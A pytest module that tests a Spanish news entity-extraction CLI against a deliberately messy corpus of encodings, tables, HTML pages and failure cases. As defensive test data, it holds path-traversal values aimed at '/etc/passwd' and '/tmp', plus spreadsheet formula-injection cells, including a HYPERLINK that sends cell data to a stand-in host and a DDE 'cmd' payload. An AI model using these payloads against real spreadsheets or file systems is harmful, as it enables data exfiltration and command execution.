"""A messy corpus, built here, through the command line: one row per document, the right reason, same entities.

Every input kind the reader takes (and the ones it refuses) is written by
`build_corpus` into a temporary folder, the CLI runs over it in a subprocess
as a user would, and the tables it writes are checked against `EXPECTED`.
"""

from __future__ import annotations

import codecs
import json
import os
import signal
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import ftfy.bad_codecs  # noqa: F401  ("sloppy-windows-1252", how mojibake is made)
import pandas as pd
import pytest

from pipeline.ingest.html import extract_html
from pipeline.ingest.read import MAX_BYTES, decode
from pipeline.ingest.repair import repair_text
from pipeline.schema import TABLES
from tests.conftest import ROOT
from tests.test_ingest_html import PARAGRAPHS, TITLE, news_page

ARTICLE = "\n\n".join(PARAGRAPHS)
ENGLISH = (
    "The president of Venezuela, Nicolás Maduro, met on Thursday in Caracas with the Russian foreign minister, "
    "Sergei Lavrov, and signed energy cooperation agreements worth 1.5 billion dollars. Trade between the two "
    "countries grew by 12 percent in 2021, according to a statement from the foreign ministry."
)
ROW = {"id": "n-001", "titulo": TITLE, "fecha": "2022-01-20", "texto": ARTICLE, "url": "https://diario.example/n-001"}
FORMULA_TITLE = '=HYPERLINK("http://x.example/robar?d="&A1,"Ver nota")'
FORMULA_URL = "@SUM(1+1)*cmd|' /C calc'!A0"
UNSUPPORTED = "expected .txt, .md, .html, .jsonl, .json, .csv or .parquet"

# file (or file#row) → (status, error) in the documents table; sources not listed do not exist.
EXPECTED: dict[str, tuple[str, str | None]] = {
    "encodings/cp1252.txt": ("ok", None),
    "encodings/crlf.txt": ("ok", None),
    "encodings/latin1.md": ("ok", None),
    "encodings/mojibake.txt": ("ok", None),
    "encodings/nfd.txt": ("ok", None),
    "encodings/nul.txt": ("ok", None),
    "encodings/utf16.txt": ("ok", None),
    "encodings/utf16le-no-bom.txt": ("ok", None),
    "encodings/utf8-bom.txt": ("ok", None),
    "encodings/utf8.txt": ("ok", None),
    "failures/big.txt": ("error", f"file too large ({MAX_BYTES + 1} bytes; the limit is {MAX_BYTES})"),
    "failures/blank.md": ("error", "empty document (no text)"),
    "failures/empty.txt": ("error", "empty file (0 bytes)"),
    "failures/english.txt": ("skipped", "language is 'en', not es (use --all-languages to read it anyway)"),
    "failures/noise.txt": ("error", "cannot decode the file as text (no text encoding fits these bytes)"),
    "failures/photo.txt": ("error", "binary file (PNG image), not text"),
    "failures/report.docx": ("skipped", f"unsupported file type '.docx'; {UNSUPPORTED}"),
    "failures/scan.pdf": ("skipped", f"unsupported file type '.pdf'; {UNSUPPORTED}"),
    "failures/loop": ("skipped", "symbolic link to a folder, not followed"),
    "pages/article.html": ("ok", None),
    "pages/empty.html": ("error", "no article text found in the HTML page"),
    "tables/rows.csv#n-001": ("ok", None),
    "tables/rows.csv#n-002": ("error", "empty document (text field 'texto' is empty)"),
    "tables/rows.json#n-001": ("ok", None),
    "tables/rows.jsonl#n-001": ("ok", None),
    "tables/rows.jsonl#row2": ("error", "line 2 is not valid JSON: Expecting property name enclosed in double quotes"),
    "tables/rows.jsonl#n-003": (
        "error",
        "row has no text field (looked for text, body, content, article, …; columns: id, titulo)",
    ),
    "tables/rows.jsonl#n-004": ("skipped", "language is 'en', not es (use --all-languages to read it anyway)"),
    "tables/rows.jsonl#../../outside": ("ok", None),
    "tables/rows.jsonl#formula": ("ok", None),
    "tables/rows.parquet#n-001": ("ok", None),
    "tables/rows.parquet#n-002": ("error", "empty document (text field 'texto' is empty)"),
    "tables/rows_cp1252.csv#n-001": ("ok", None),
    "text.md": ("ok", None),
}


def build_corpus(root: Path) -> None:
    """Writes every input case of `EXPECTED` under ``root``."""
    enc = root / "encodings"
    enc.mkdir(parents=True)
    (enc / "utf8.txt").write_bytes(ARTICLE.encode("utf-8"))
    (enc / "utf8-bom.txt").write_bytes(codecs.BOM_UTF8 + ARTICLE.encode("utf-8"))
    (enc / "utf16.txt").write_bytes(ARTICLE.encode("utf-16"))
    (enc / "utf16le-no-bom.txt").write_bytes(ARTICLE.encode("utf-16-le"))
    (enc / "cp1252.txt").write_bytes(ARTICLE.encode("cp1252"))
    (enc / "latin1.md").write_bytes(ARTICLE.encode("latin-1"))
    (enc / "mojibake.txt").write_bytes(ARTICLE.encode("utf-8").decode("sloppy-windows-1252").encode("utf-8"))
    (enc / "nfd.txt").write_bytes(unicodedata.normalize("NFD", ARTICLE).encode("utf-8"))
    (enc / "crlf.txt").write_bytes(ARTICLE.replace("\n", "\r\n").encode("utf-8"))
    (enc / "nul.txt").write_bytes(ARTICLE.replace("Maduro", "Mad\x00uro").replace(". ", ".\x00 ").encode("utf-8"))

    pages = root / "pages"
    pages.mkdir()
    (pages / "article.html").write_bytes(news_page().encode("utf-8"))
    (pages / "empty.html").write_bytes(b"<html><head><title>Nada</title></head><body></body></html>")

    tables = root / "tables"
    tables.mkdir()
    rows = [ROW, {"id": "n-002", "titulo": "Sin texto", "fecha": "2022-01-21", "texto": ""}]
    pd.DataFrame(rows).to_csv(tables / "rows.csv", index=False)
    pd.DataFrame(rows).to_parquet(tables / "rows.parquet")
    pd.DataFrame(rows[:1]).to_csv(tables / "rows_cp1252.csv", index=False, sep=";", encoding="cp1252")
    (tables / "rows.json").write_text(json.dumps({"articles": rows[:1]}, ensure_ascii=False), encoding="utf-8")
    jsonl = [
        json.dumps(ROW, ensure_ascii=False),
        "{'id': 'n-002', texto: sin comillas}",
        json.dumps({"id": "n-003", "titulo": "Sin campo de texto"}),
        json.dumps({"id": "n-004", "texto": ENGLISH}),
        # A row whose id, title and text try to steer where files go.
        json.dumps(
            {
                "id": "../../outside",
                "titulo": "../../../tmp/evil.csv",
                "texto": ARTICLE + "\n\n../../outputs/documents.csv /etc/passwd",
                "url": "file:///etc/passwd",
            }
        ),
        # Cells a spreadsheet would run as formulas.
        json.dumps({"id": "formula", "titulo": FORMULA_TITLE, "texto": ARTICLE, "url": FORMULA_URL}),
    ]
    (tables / "rows.jsonl").write_text("\n".join(jsonl) + "\n", encoding="utf-8")

    failures = root / "failures"
    failures.mkdir()
    (failures / "empty.txt").write_bytes(b"")
    (failures / "blank.md").write_bytes(b"  \n\t\r\n   \n")
    (failures / "photo.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    (failures / "noise.txt").write_bytes(bytes(range(128, 256)) * 16)
    (failures / "english.txt").write_text(ENGLISH, encoding="utf-8")
    (failures / "report.docx").write_bytes(b"PK\x03\x04" + bytes(30))
    (failures / "scan.pdf").write_bytes(b"%PDF-1.4\n")
    with open(failures / "big.txt", "wb") as f:  # sparse: no disk used, refused by size before reading
        f.truncate(MAX_BYTES + 1)
    os.symlink(root, failures / "loop")
    (root / "text.md").write_text(f"# {TITLE}\n\n{ARTICLE}\n\nPor Ana Gómez\n\nLee también: Sube el petróleo\n", encoding="utf-8")


def run_cli(*args: str, stdin: bytes | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "pipeline", "extract", *args], input=stdin, capture_output=True, cwd=cwd, timeout=600
    )


@pytest.fixture(scope="module")
def corpus_run(tmp_path_factory):
    """The corpus and one CLI run over it (in a subprocess, as a user runs it)."""
    base = tmp_path_factory.mktemp("messy")
    corpus = base / "corpus"
    build_corpus(corpus)
    before = sorted(p.relative_to(base) for p in base.rglob("*"))
    proc = run_cli(str(corpus), "--out", str(base / "out"), "--format", "csv,parquet")
    documents = pd.read_parquet(base / "out" / "documents.parquet")
    documents["name"] = documents.source.str.removeprefix(f"{corpus}/")
    mentions = pd.read_parquet(base / "out" / "mentions.parquet").merge(documents[["doc_id", "name"]], on="doc_id")
    return {"base": base, "corpus": corpus, "before": before, "proc": proc, "documents": documents, "mentions": mentions}


def test_corpus_cli_exits_1_with_summary_and_no_traceback(corpus_run):
    proc = corpus_run["proc"]
    stderr, stdout = proc.stderr.decode(), proc.stdout.decode()
    assert "Traceback" not in stderr + stdout
    assert stderr == ""
    ok = sum(1 for status, _ in EXPECTED.values() if status == "ok")
    failed = sum(1 for status, _ in EXPECTED.values() if status == "error")
    skipped = sum(1 for status, _ in EXPECTED.values() if status == "skipped")
    assert stdout.startswith(f"{ok} documents ok, {failed} failed, {skipped} skipped;")
    assert proc.returncode == 1


def test_corpus_has_one_row_per_document_in_sorted_order(corpus_run):
    names = list(corpus_run["documents"].name)
    assert sorted(names) == sorted(EXPECTED)
    assert names == sorted(names, key=lambda n: (n.split("#")[0], list(EXPECTED).index(n)))
    assert corpus_run["documents"].doc_id.is_unique


@pytest.mark.parametrize(("name", "expected"), list(EXPECTED.items()), ids=list(EXPECTED))
def test_corpus_status_and_reason(corpus_run, name, expected):
    row = corpus_run["documents"].set_index("name").loc[name]
    assert (row.status, row.error if pd.notna(row.error) else None) == expected


def _entity_set(mentions: pd.DataFrame, name: str) -> list[tuple]:
    rows = mentions[mentions.name == name]
    return sorted(zip(rows.section, rows.start, rows.text, rows.label, rows.value.fillna(""), strict=True))


# Each ok document and the one whose clean text it must equal: the article alone
# (text files in any encoding, table rows whose title is metadata), or the article
# under its title heading (the HTML page and the markdown file).
SAME_TEXT = {
    name: "text.md" if name == "pages/article.html" else "encodings/utf8.txt"
    for name, (status, _) in EXPECTED.items()
    if status == "ok" and name not in ("encodings/utf8.txt", "text.md")
}


@pytest.mark.parametrize(("name", "reference"), list(SAME_TEXT.items()), ids=list(SAME_TEXT))
def test_corpus_same_entities_whatever_the_encoding_or_container(corpus_run, name, reference):
    mentions, documents = corpus_run["mentions"], corpus_run["documents"].set_index("name")
    expected = _entity_set(mentions, reference)
    assert len(expected) >= 10
    found = _entity_set(mentions, name)
    if str(documents.loc[name, "published"]) != str(documents.loc[reference, "published"]):
        # A date from the container's metadata resolves "este jueves" differently: compare spans, not values.
        expected, found = [m[:4] for m in expected], [m[:4] for m in found]
    if name == "tables/rows.jsonl#../../outside":  # its text has one more paragraph at the end
        found = [m for m in found if m[1] < documents.loc[reference, "n_chars"]]
    else:
        assert documents.loc[name, "n_chars"] == documents.loc[reference, "n_chars"]
    assert found == expected


def _raw_text(corpus: Path, name: str, row: pd.Series) -> str:
    """The text as read for a document, rebuilt independently of the pipeline's reader."""
    path, _, row_id = name.partition("#")
    data = (corpus / path).read_bytes()
    if path.endswith(".html"):
        return extract_html(decode(data)[0])[0]
    if path.endswith(".jsonl"):
        return next(json.loads(line)["texto"] for line in data.decode().splitlines() if f'"{row_id}"' in line)
    if row_id:
        return ARTICLE
    return decode(data)[0]


def test_corpus_raw_offsets_point_at_each_mention_in_the_text_as_read(corpus_run):
    corpus, mentions, documents = corpus_run["corpus"], corpus_run["mentions"], corpus_run["documents"]
    checked = 0
    for name, group in mentions.groupby("name"):
        raw = _raw_text(corpus, name, documents.set_index("name").loc[name])
        for m in group.itertuples():
            span = repair_text(raw[m.raw_start : m.raw_end])
            chars = iter(span)
            assert span[:1] == m.text[:1] and span[-1:] == m.text[-1:], (name, m.text, span)
            assert all(c in chars for c in m.text), (name, m.text, span)
            checked += 1
    assert checked == len(mentions) > 100


@pytest.mark.parametrize(
    ("name", "column", "value"),
    [
        ("pages/article.html", "title", TITLE),
        ("pages/article.html", "published", "2022-01-20"),
        ("pages/article.html", "published_from", "metadata"),
        ("pages/article.html", "url", "https://diario.example/internacional/maduro-lavrov"),
        ("tables/rows.jsonl#n-001", "title", TITLE),
        ("tables/rows.jsonl#n-001", "published", "2022-01-20"),
        ("tables/rows.jsonl#n-001", "url", "https://diario.example/n-001"),
        ("tables/rows.parquet#n-001", "published_from", "metadata"),
        ("encodings/utf8.txt", "language", "es"),
        ("failures/english.txt", "language", "en"),
        ("encodings/utf8.txt", "dateline_place", "Caracas"),
        ("encodings/utf8.txt", "agency", "EFE"),
        ("text.md", "title", TITLE),
    ],
)
def test_corpus_metadata(corpus_run, name, column, value):
    assert corpus_run["documents"].set_index("name").loc[name, column] == value


def test_corpus_text_cannot_steer_where_files_are_written(corpus_run):
    base = corpus_run["base"]
    after = sorted(p.relative_to(base) for p in base.rglob("*"))
    written = set(after) - set(corpus_run["before"])
    assert all(p.parts[0] == "out" for p in written)
    assert {p for p in written if ".generations" not in p.parts} == {Path("out")} | {
        Path("out") / f"{t}.{f}" for t in TABLES for f in ("csv", "parquet")
    }
    assert not (base.parent / "outside").exists() and not Path("/tmp/evil.csv").exists()


def test_corpus_stdin_as_text_and_as_jsonl(tmp_path):
    proc = run_cli("-", "--out", str(tmp_path / "a"), stdin=ARTICLE.encode("cp1252"))
    assert proc.returncode == 0, proc.stderr.decode()
    docs = pd.read_csv(tmp_path / "a" / "documents.csv")
    assert list(zip(docs.source, docs.status, strict=True)) == [("<stdin>", "ok")]
    lines = json.dumps(ROW, ensure_ascii=False) + "\nno es JSON\n"
    proc = run_cli("-", "--out", str(tmp_path / "b"), stdin=lines.encode())
    assert proc.returncode == 1 and b"Traceback" not in proc.stderr
    docs = pd.read_csv(tmp_path / "b" / "documents.csv")
    assert list(zip(docs.source, docs.status, strict=True)) == [("<stdin>#n-001", "ok"), ("<stdin>#row2", "error")]


def test_corpus_strict_stops_at_the_first_failure_and_writes_nothing(tmp_path):
    build_corpus(tmp_path / "corpus")
    proc = run_cli(str(tmp_path / "corpus"), "--out", str(tmp_path / "out"), "--strict")
    assert proc.returncode == 1
    assert proc.stderr.decode().strip() == (
        f"error: {tmp_path / 'corpus' / 'failures/big.txt'}: "
        f"{EXPECTED['failures/big.txt'][1]} (--strict: stopped, nothing written)"
    )
    assert not (tmp_path / "out").exists()


def test_corpus_all_languages_reads_the_english_article(tmp_path, nlp, monkeypatch):
    import pipeline

    (tmp_path / "english.txt").write_text(ENGLISH, encoding="utf-8")
    skipped = pipeline.extract([tmp_path], nlp=nlp)
    read = pipeline.extract([tmp_path], nlp=nlp, languages=None)
    assert list(skipped.documents.status) == ["skipped"] and len(skipped.mentions) == 0
    assert list(read.documents.status) == ["ok"] and "Nicolás Maduro" in set(read.mentions.text)
    assert list(read.documents.language) == ["en"]


def _waiting_on_stdin(pid: int) -> bool:
    """True once the process is blocked reading file descriptor 0 (Linux /proc)."""
    try:
        fields = Path(f"/proc/{pid}/syscall").read_text().split()
    except OSError:
        return False
    return len(fields) > 1 and fields[0] == "0" and int(fields[1], 16) == 0  # read(0, …)


def test_corpus_ctrl_c_mid_run_leaves_the_previous_tables_intact(tmp_path):
    if not Path("/proc/self/syscall").exists():
        pytest.skip("needs Linux /proc/<pid>/syscall to know when the run is under way")
    out = tmp_path / "out"
    out.mkdir()
    previous = {
        f"{t}.{f}": f"previous {t} {f}\n".encode() for t in ("documents", "mentions", "entities") for f in ("csv", "parquet")
    }
    for name, data in previous.items():
        (out / name).write_bytes(data)
    (tmp_path / "a.txt").write_text(ARTICLE, encoding="utf-8")
    proc = subprocess.Popen(
        [sys.executable, "-m", "pipeline", "extract", str(tmp_path / "a.txt"), "-", "--out", str(out)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=ROOT,
    )
    try:
        for _ in range(1200):  # the model loads, a.txt is read, then the run waits on standard input
            if _waiting_on_stdin(proc.pid) or proc.poll() is not None:
                break
            time.sleep(0.1)
        proc.stdin.write(ARTICLE.encode()[:100])
        proc.stdin.flush()
        proc.send_signal(signal.SIGINT)
        stdout, stderr = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130, stderr.decode()
    assert stderr.decode().strip() == "interrupted; the previous output tables are left as they were"
    assert {p.name: p.read_bytes() for p in out.iterdir() if not p.name.startswith(".")} == previous


def test_corpus_csv_neutralises_formulas_and_parquet_keeps_the_text(corpus_run):
    out, corpus = corpus_run["base"] / "out", corpus_run["corpus"]
    source = f"{corpus}/tables/rows.jsonl#formula"
    csv_row = pd.read_csv(out / "documents.csv", dtype=str, keep_default_na=False).set_index("source").loc[source]
    parquet_row = corpus_run["documents"].set_index("source").loc[source]
    assert (csv_row.title, csv_row.url) == ("'" + FORMULA_TITLE, "'" + FORMULA_URL)
    assert (parquet_row.title, parquet_row.url) == (FORMULA_TITLE, FORMULA_URL)


def test_cli_field_option_names_the_columns(tmp_path, nlp, monkeypatch, capsys):
    from pipeline.cli import main

    monkeypatch.setattr("pipeline.run.default_nlp", lambda: nlp)
    row = {"resumen": "Breve.", "nota": ARTICLE, "cuando": "2021-03-04", "clave": "x9"}
    (tmp_path / "rows.jsonl").write_text(json.dumps(row, ensure_ascii=False), encoding="utf-8")
    code = main(
        [
            "extract",
            str(tmp_path / "rows.jsonl"),
            "--out",
            str(tmp_path / "out"),
            "--field",
            "text=nota",
            "--field",
            "date=cuando",
            "--field",
            "id=clave",
        ]
    )
    assert code == 0, capsys.readouterr()
    docs = pd.read_csv(tmp_path / "out" / "documents.csv")
    assert list(zip(docs.source, docs.status, docs.published, strict=True)) == [
        (f"{tmp_path / 'rows.jsonl'}#x9", "ok", "2021-03-04")
    ]


@pytest.mark.parametrize("value", ["body=nota", "text", "text=", "=nota"])
def test_cli_bad_field_option_is_a_usage_error(value, capsys):
    from pipeline.cli import EXIT_USAGE, main

    with pytest.raises(SystemExit) as exc:
        main(["extract", "corpus", "--field", value])
    assert exc.value.code == EXIT_USAGE
    assert "expected ROLE=COLUMN with ROLE one of text, title, date, url, id" in capsys.readouterr().err
